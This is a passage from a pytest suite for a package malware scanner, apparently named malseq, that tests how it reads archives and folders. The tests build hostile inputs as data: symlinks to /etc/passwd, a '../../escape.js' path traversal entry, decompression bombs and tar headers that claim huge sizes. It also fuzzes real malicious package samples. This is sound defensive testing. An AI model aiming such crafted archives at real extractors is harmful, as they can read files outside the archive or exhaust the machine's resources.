    assert paths(read(bytes(set_checksum(v7)))) == ["a.py"]


def test_wheel_named_tar_gz(tmp_path: Path) -> None:
    target = tmp_path / "pkg-1.0-py3-none-any.tar.gz"
    target.write_bytes(zip_bytes([
        ZipEntry("pkg/__init__.py", b"import os\n"),
        ZipEntry("pkg-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n"),
        ZipEntry("pkg-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
    ]))
    package = load(target)
    assert package.origin.archive_format == "zip"
    assert package.ecosystem is Ecosystem.PYPI
    assert package.pypi is not None and package.pypi.is_wheel
    assert (package.name, package.version) == ("pkg", "1.0")


def test_zip_with_data_prepended_is_recognised() -> None:
    data = zip_bytes([ZipEntry("a.py", b"1")], prefix=b"MZ" + bytes(500))
    assert paths(read(data)) == ["a.py"]


def test_empty_zip() -> None:
    contents = read(zip_bytes([]))
    assert contents.members == () and contents.skipped == ()


def test_empty_file(tmp_path: Path) -> None:
    target = tmp_path / "empty.tar.gz"
    target.write_bytes(b"")
    with pytest.raises(CorruptArchiveError) as info:
        load(target)
    assert info.value.message == "file is empty (0 bytes)"


def test_random_bytes(tmp_path: Path) -> None:
    target = tmp_path / "random.tgz"
    target.write_bytes(random.Random(0).randbytes(10_000))
    with pytest.raises(ArchiveFormatError) as info:
        load(target)
    assert info.value.message.startswith("not an archive malseq can read")


def test_gzip_of_something_else() -> None:
    with pytest.raises(ArchiveFormatError, match="gzip stream does not hold a tar archive"):
        read(gzip.compress(b"plain text, not a tar" * 100))


def test_archive_over_the_input_limit(tmp_path: Path) -> None:
    target = tmp_path / "big.tar"
    target.write_bytes(tar_bytes([TarEntry("a.bin", bytes(3 * MiB))]))
    limits = replace(DEFAULT_LIMITS, max_archive_bytes=2 * MiB)
    with pytest.raises(ArchiveLimitError, match="more than the limit of 2097152"):
        load(target, limits=limits)


# ---------------------------------------------------------------------------
# Folder targets


def test_folder_skips_links_fifos_and_what_it_cannot_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = tmp_path / "pkg"
    root.mkdir()
    (root / "package.json").write_text('{"name": "f", "version": "1.0.0"}')
    (root / "index.js").write_text("module.exports = 1\n")
    (root / "passwd").symlink_to("/etc/passwd")
    (root / "outside").symlink_to(tmp_path, target_is_directory=True)
    os.mkfifo(root / "pipe")
    (root / "locked").mkdir()
    (root / "locked" / "hidden.js").write_text("evil()")
    (root / "gone.js").write_text("2")
    real_scandir, real_open = os.scandir, os.open

    def scandir(path: str) -> object:
        if Path(path) == root / "locked":
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    def open_(path: str, flags: int, *args: int) -> int:
        if Path(path).name == "gone.js":  # removed between listing and reading
            raise FileNotFoundError(2, "No such file or directory", str(path))
        return real_open(path, flags, *args)

    monkeypatch.setattr(os, "scandir", scandir)
    monkeypatch.setattr(os, "open", open_)
    package = load(root)
    assert paths(package) == ["index.js", "package.json"]
    assert skipped(package) == {
        "passwd": "symbolic link",
        "outside": "symbolic link",
        "pipe": "device, FIFO or socket",
        "locked": "unreadable folder: Permission denied",
        "gone.js": "unreadable: No such file or directory",
    }
    assert package.origin.kind == "folder" and package.name == "f"


def test_folder_refuses_a_fifo_or_link_swapped_in_after_listing(tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    # lstat says "regular file"; by the time it is opened it is a FIFO (opening would
    # block for ever) or a link to a secret (reading would follow it).
    root = tmp_path / "pkg"
    root.mkdir()
    (root / "setup.py").write_text("x = 1\n")
    os.mkfifo(root / "swapped-fifo")
    (root / "swapped-link").symlink_to("/etc/hostname")
    real_lstat = Path.lstat

    def lstat(self: Path) -> os.stat_result:
        st = real_lstat(self)
        if self.name.startswith("swapped"):
            return os.stat_result((stat.S_IFREG | 0o644, *tuple(st)[1:6], 10, *tuple(st)[7:10]))
        return st

    monkeypatch.setattr(Path, "lstat", lstat)
    package = load(root)
    assert paths(package) == ["setup.py"]
    assert skipped(package) == {
        "swapped-fifo": "device, FIFO or socket",
        "swapped-link": "unreadable: Too many levels of symbolic links",
    }


# ---------------------------------------------------------------------------
# Side effects, time budget, batch


def _snapshot(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*"))


@pytest.fixture
def sealed_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """cwd, HOME and the temp dir pointed at empty folders that must stay empty."""
    dirs = {name: tmp_path / name for name in ("cwd", "home", "tmp")}
    for d in dirs.values():
        d.mkdir()
    monkeypatch.chdir(dirs["cwd"])
    monkeypatch.setenv("HOME", str(dirs["home"]))
    monkeypatch.setenv("TMPDIR", str(dirs["tmp"]))
    monkeypatch.setenv("MALSEQ_CACHE_DIR", str(dirs["home"] / "cache"))
    monkeypatch.setattr(tempfile, "tempdir", str(dirs["tmp"]))
    return dirs


def test_nothing_is_written_anywhere(
    sealed_env: dict[str, Path], tmp_path: Path, tgz_bomb_1g: bytes, capsys: pytest.CaptureFixture[str]
) -> None:
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    cases = {
        "good.tgz": npm_tgz(extra=[TarEntry("../../escape.js", b"1"),
                                   TarEntry("package/l", type=tarfile.SYMTYPE, linkname="/etc/passwd"),
                                   TarEntry("package/fifo", type=tarfile.FIFOTYPE)]),
        "bomb.tgz": tgz_bomb_1g,
        "enc.zip": zip_bytes([ZipEntry("/tmp/abs.py", b"1", password=SECRET), ZipEntry("ok.py", b"2",
                                                                                       password=SECRET)]),
        "cut.zip": zip_bytes([ZipEntry("a.py", b"1"), ZipEntry("b.py", b"2" * 900)])[:120],
    }
    for name, data in cases.items():
        (inputs / name).write_bytes(data)
    before_inputs = _snapshot(inputs)
    code = _cli.main(["scan", "--no-analysis", "--format", "json", "--zip-password", "infected",
                      *(str(inputs / n) for n in cases)])
    assert code == 3
    report = json.loads(capsys.readouterr().out)
    assert [r.get("error", {}).get("type") for r in report] == [None, "ArchiveLimitError", None, None]
    for d in sealed_env.values():
        assert _snapshot(d) == [], d
    assert _snapshot(inputs) == before_inputs


def test_tiny_timeout_on_a_big_legal_archive(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rng = random.Random(9)
    target = tmp_path / "big.tgz"
    target.write_bytes(tgz([TarEntry("package/package.json", PACKAGE_JSON)]
                           + [TarEntry(f"package/f{i}.bin", rng.randbytes(MiB)) for i in range(24)], level=1))
    code = _cli.main(["scan", "--no-analysis", "--format", "json", "--timeout", "0.000001", str(target)])
    assert code == 3
    [entry] = json.loads(capsys.readouterr().out)
    assert entry["error"]["type"] == "TimeBudgetExceeded"
    assert entry["error"]["message"].startswith("time budget of 1e-06 CPU s used up while")
    assert entry["error"]["hint"] == "raise it with --timeout if the package is genuinely large"
    # And the library raises the typed error itself.
    with pytest.raises(TimeBudgetExceeded):
        load_target(str(target), IntakeOptions(limits=replace(DEFAULT_LIMITS, time_budget_seconds=1e-6)))


def test_batch_reports_each_target_in_order(
    tmp_path: Path, zip_bomb_1g: bytes, capsys: pytest.CaptureFixture[str]
) -> None:
    good = tmp_path / "good.tgz"
    good.write_bytes(npm_tgz())
    bomb = tmp_path / "bomb.zip"
    bomb.write_bytes(zip_bomb_1g)
    good2 = tmp_path / "good2.zip"
    good2.write_bytes(zip_bytes([ZipEntry("pkg-1.0/PKG-INFO", b"Name: pkg\nVersion: 1.0\n"),
                                 ZipEntry("pkg-1.0/setup.py", b"from setuptools import setup\nsetup()\n")]))
    targets = [str(good), str(bomb), str(good2)]
    code = _cli.main(["scan", "--no-analysis", *targets, "--format", "json"])
    captured = capsys.readouterr()
    assert code == 3
    report = json.loads(captured.out)
    assert [r["target"] for r in report] == targets
    assert ["error" in r for r in report] == [False, True, False]
    assert ["package" in r for r in report] == [True, False, True]
    assert report[1]["error"]["type"] == "ArchiveLimitError"
    assert "possible decompression bomb" in report[1]["error"]["message"]
    assert report[0]["package"]["name"] == "good-pkg" and report[2]["package"]["name"] == "pkg"
    assert "[2/3]" in captured.err and "error" in captured.err


# ---------------------------------------------------------------------------
# Fuzzing: damaged archives give typed errors, never stray exceptions


def _fuzz_seeds() -> dict[str, bytes]:
    rng = random.Random(42)
    entries = [
        TarEntry("package/package.json", PACKAGE_JSON),
        TarEntry("package/index.js", b"const cp = require('child_process');\n" * 20),
        TarEntry("package/" + "long/" * 30 + "deep.js", b"1"),  # pax / GNU long names
        TarEntry("package/link", type=tarfile.SYMTYPE, linkname="index.js"),
        TarEntry("package/bin.dat", rng.randbytes(3000)),
    ]
    seeds = {
        "tar.gz": tgz(entries),
        "tar.bz2": bz2.compress(tar_bytes(entries)),
        "tar.xz": lzma.compress(tar_bytes(entries)),
        "tar.gnu": tar_bytes(entries, fmt=tarfile.GNU_FORMAT),
        "tar.pax": tar_bytes(entries),
        "zip": zip_bytes([ZipEntry("pkg/setup.py", b"import os\n" * 30), ZipEntry("pkg/b.bin", rng.randbytes(2000)),
                          ZipEntry("pkg/s.txt", b"stored" * 50, method=0)]),
        "zip-crypto": zip_bytes([ZipEntry("pkg/setup.py", b"import os\n" * 30, password=SECRET)]),
        "zip>tgz": zip_bytes([ZipEntry("p.tgz", npm_tgz(), method=0)]),
    }
    return seeds


def _mutations(data: bytes, rng: random.Random) -> bytes:
    buf = bytearray(data)
    kind = rng.randrange(5)
    if kind == 0:  # flip a few bytes
        for _ in range(rng.randint(1, 8)):
            buf[rng.randrange(len(buf))] = rng.randrange(256)
    elif kind == 1:  # truncate
        del buf[rng.randrange(len(buf)) :]
    elif kind == 2:  # overwrite a run with junk or zeros
        at = rng.randrange(len(buf))
        n = rng.randint(1, 64)
        buf[at : at + n] = bytes(n) if rng.random() < 0.5 else rng.randbytes(n)
    elif kind == 3:  # tamper with header-ish integers: sizes, offsets, counts
        at = rng.randrange(max(1, len(buf) - 8))
        buf[at : at + 4] = rng.choice([b"\xff\xff\xff\xff", b"\x00\x00\x00\x80", b"\x00\x00\x00\x00", b"7777"])
    else:  # duplicate or delete a slice
        a, b = sorted(rng.randrange(len(buf)) for _ in range(2))
        buf[a:a] = buf[a:b] if rng.random() < 0.5 else b""
        if rng.random() < 0.5:
            del buf[a:b]
    return bytes(buf)


def test_fuzzed_archives_only_raise_malseq_errors() -> None:
    rng = random.Random(20240601)
    limits = replace(DEFAULT_LIMITS, max_total_bytes=32 * MiB, max_file_bytes=4 * MiB)
    outcomes: dict[str, int] = {}
    for name, seed in _fuzz_seeds().items():
        for i in range(400):
            data = _mutations(seed, rng)
            try:
                read_archive(data, limits, Deadline(5.0), SECRET if "crypto" in name else None)
                outcome = "ok"
            except MalseqError as exc:
                assert isinstance(exc, IntakeError), (name, i, exc)
                assert exc.message, (name, i)
                outcome = type(exc).__name__
            except Exception as exc:  # noqa: BLE001
                pytest.fail(f"{name} mutation {i}: {type(exc).__name__}: {exc}")
            outcomes[outcome] = outcomes.get(outcome, 0) + 1
    print(f"\nfuzz outcomes: {outcomes}")
    assert outcomes.get("ok", 0) > 100 and outcomes.get("CorruptArchiveError", 0) > 100, outcomes


def test_fuzzed_real_samples_only_raise_malseq_errors() -> None:
    datasets = Path(__file__).resolve().parents[2].parent / "shared" / "datasets"
    samples = sorted(datasets.glob("malicious-pypi/*/*/*.tar.gz"))[:4]
    samples += sorted(datasets.glob("malicious-npm/*/*/*.tgz"))[:3]
    samples += sorted(datasets.glob("malicious-pypi/*/*/*.whl"))[:3]
    if not samples:
        pytest.skip("shared datasets not present")
    rng = random.Random(7)
    for sample in samples:
        seed = sample.read_bytes()
        for i in range(60):
            data = _mutations(seed, rng)
            try:
                read_archive(data, DEFAULT_LIMITS, Deadline(5.0), SECRET)
            except MalseqError:
                pass
            except Exception as exc:  # noqa: BLE001
                pytest.fail(f"{sample.name} mutation {i}: {type(exc).__name__}: {exc}")


@pytest.mark.parametrize("size", [8 * GiB, 2**62])
@pytest.mark.parametrize("compress", [lambda b: b, gzip.compress], ids=["tar", "tar.gz"])
def test_sizes_in_hostile_headers_neither_allocate_nor_hang(size: int, compress: Callable[[bytes], bytes]) -> None:
    # A header claiming exabytes on a tiny file: tarfile's stream mode would skip it one
    # 10 KiB block at a time, for ever.
    info = tarfile.TarInfo("package/huge.js")
    info.size = size
    data = compress(tar_bytes([TarEntry("package/a.js", b"abc")], fmt=tarfile.GNU_FORMAT, end=False)
                    + info.tobuf(tarfile.GNU_FORMAT) + b"tiny")
    start = time.process_time()  # CPU, not wall: holds on a busy machine
    peak, outcome = peak_memory(lambda: read(data))
    assert time.process_time() - start < 2
    assert isinstance(outcome, ArchiveContents), outcome
    assert paths(outcome) == ["package/a.js"]
    assert skipped(outcome)["package/huge.js"] == f"too large ({size} bytes)"
    assert skipped(outcome)[ARCHIVE_NOTE].startswith("archive is truncated")
    assert peak < 4 * MiB
